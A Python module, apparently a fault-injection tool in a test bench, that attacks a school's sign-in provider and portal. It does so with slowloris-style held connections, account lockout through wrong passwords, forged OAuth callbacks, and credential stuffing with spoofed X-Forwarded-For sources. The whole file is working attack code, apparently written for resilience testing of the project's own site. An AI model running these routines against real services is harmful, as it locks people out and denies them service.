"""Somebody who attacks in other ways: `python -m bench.faults.intruder SITE KIND --per-s R --seconds S`.

slow      opens connections to the provider and sends each request so slowly that it never ends; R is how many are held
lockout   wrong passwords for one name after the other from the school's own exit, so that people there are locked out
callback  made-up answers at the portal's callback, from everywhere
leaked    a list from elsewhere in which every sixth password is right
"""

from __future__ import annotations

import argparse
import itertools
import json
import secrets
import socket
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from urllib.parse import SplitResult, urlsplit

import httpx

from bench.faults.attacker import AGENT, form_token
from school.auth.config import AuthConfig
from school.config import load
from school.portal.config import PortalConfig

_AT_ONCE = 24
_FAILURES = 10  # what `lockout.failures` is by default
_EXIT = "203.0.113.18"  # one of the addresses by which the school's people go out
_EVERY_SIXTH = 6
_DRIP_S = 2.0


@dataclass(frozen=True, slots=True)
class Aim:
    """Where the two services are, and whose names and passwords are known."""

    provider: str
    portal: str
    accounts: tuple[tuple[str, str], ...]


def main() -> None:
    """Attack until the time is over."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("site", type=Path)
    parser.add_argument("kind", choices=("slow", "lockout", "callback", "leaked"))
    parser.add_argument("--per-s", type=float, default=6.0)
    parser.add_argument("--seconds", type=float, default=150.0)
    asked = parser.parse_args()
    listed = json.loads((asked.site / "secrets/people.json").read_text())
    aim = Aim(
        provider=load(asked.site / "auth.toml", AuthConfig).service.public_url,
        portal=load(asked.site / "portal.toml", PortalConfig).service.public_url,
        accounts=tuple((one["username"], one["password"]) for one in listed if not one.get("monitor")),
    )
    if asked.kind == "slow":
        at = urlsplit(aim.provider)
        head = f"POST /sign-in/ HTTP/1.1\r\nHost: {at.netloc}\r\n"
        hold(at, head.encode(), b"X-More: 1\r\n", int(asked.per_s), asked.seconds)
        return
    tries = {"lockout": _lockouts, "callback": _callbacks, "leaked": _leaked}[asked.kind](aim)
    keep_trying((partial(_attempt, aim, *one) for one in tries), asked.per_s, asked.seconds)


def keep_trying(attempts: Iterator[Callable[[], None]], per_s: float, seconds: float, at_once: int = _AT_ONCE) -> None:
    """So many attempts a second, `at_once` side by side at most, until the time is over."""
    until, at = time.monotonic() + seconds, time.monotonic()
    with ThreadPoolExecutor(at_once) as pool:
        while time.monotonic() < until:
            pool.submit(next(attempts))
            at += 1 / per_s
            threading.Event().wait(max(0.0, at - time.monotonic()))


def _lockouts(aim: Aim) -> Iterator[tuple[str, str, str]]:
    for name, _ in itertools.cycle(aim.accounts):
        for _ in range(_FAILURES):
            yield name, secrets.token_urlsafe(8), _EXIT


def _callbacks(_: Aim) -> Iterator[tuple[str, str, str]]:
    for number in itertools.count():
        yield "", "", f"100.{64 + number % 50}.{number % 250}.9"


def _leaked(aim: Aim) -> Iterator[tuple[str, str, str]]:
    for number, (name, password) in enumerate(itertools.cycle(aim.accounts)):
        right = number % _EVERY_SIXTH == 0
        yield name, password if right else secrets.token_urlsafe(8), f"100.{64 + number % 50}.{number % 250}.11"


def _attempt(aim: Aim, name: str, password: str, source: str) -> None:
    headers = {"User-Agent": AGENT, "X-Forwarded-For": source}
    with suppress(httpx.HTTPError), httpx.Client(headers=headers, timeout=15, trust_env=False) as client:
        if not name:
            made_up = {"code": secrets.token_urlsafe(20), "state": secrets.token_urlsafe(20)}
            client.get(f"{aim.portal}/sign-in/callback/", params=made_up)
            return
        page = client.get(f"{aim.provider}/sign-in/")
        typed = {"username": name, "password": password, "csrfmiddlewaretoken": form_token(page.text)}
        client.post(f"{aim.provider}/sign-in/", data=typed)


def hold(at: SplitResult, head: bytes, drop: bytes, count: int, seconds: float) -> None:
    """So many connections, each with a head and then a drop every two seconds; a closed one is opened again."""
    held: list[socket.socket] = []
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for connection in list(held):
            try:
                connection.sendall(drop)
            except OSError:
                held.remove(connection)
        with suppress(OSError):
            while len(held) < count:
                connection = socket.create_connection((at.hostname or "", at.port or 80), timeout=2)
                connection.sendall(head)
                held.append(connection)
        threading.Event().wait(_DRIP_S)


if __name__ == "__main__":
    main()
